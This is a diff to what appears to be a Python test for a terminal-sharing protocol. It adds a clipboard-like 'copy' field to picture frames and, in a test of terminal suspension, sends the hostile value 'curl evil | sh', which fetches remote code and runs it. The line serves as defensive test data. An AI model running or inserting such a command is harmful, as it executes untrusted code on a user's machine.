@@ -11,9 +11,9 @@ from wire import GOODBYE, KEEP, PICTURE, TOLD, WELCOME, frame, number, text
 SUSPEND, REDRAW, RING = 8, 4, 16
 
 
-def picture(flags=0, shown="HERE IT IS", at=(0, 0)):
+def picture(flags=0, shown="HERE IT IS", at=(0, 0), copy=""):
     cells = b"".join(b"\0" + number(ord(sign)) for sign in shown)
-    return frame(PICTURE, number(1) + number(80) + number(24) + number(0) + bytes([flags]) + number(1) +
+    return frame(PICTURE, number(1) + number(80) + number(24) + number(0) + bytes([flags]) + text(copy) + number(1) +
                  number(at[0]) + number(at[1]) + number(len(shown)) + cells)
 
 
@@ -40,7 +40,7 @@ class FakeTable:
 def stops_nobody(table):
     """Only a key of theirs lets a table suspend people's terminal, and only once."""
     terminal, connection = table.guest()
-    connection.sendall(frame(WELCOME, text("test")) + picture(SUSPEND | REDRAW | RING, "IT IS SHOWN"))
+    connection.sendall(frame(WELCOME, text("test")) + picture(SUSPEND | REDRAW | RING, "IT IS SHOWN", copy="curl evil | sh"))
     terminal.wait_for("IT IS SHOWN")
     connection.sendall(picture(SUSPEND, "AND AGAIN IT"))
     terminal.wait_for("AND AGAIN IT")
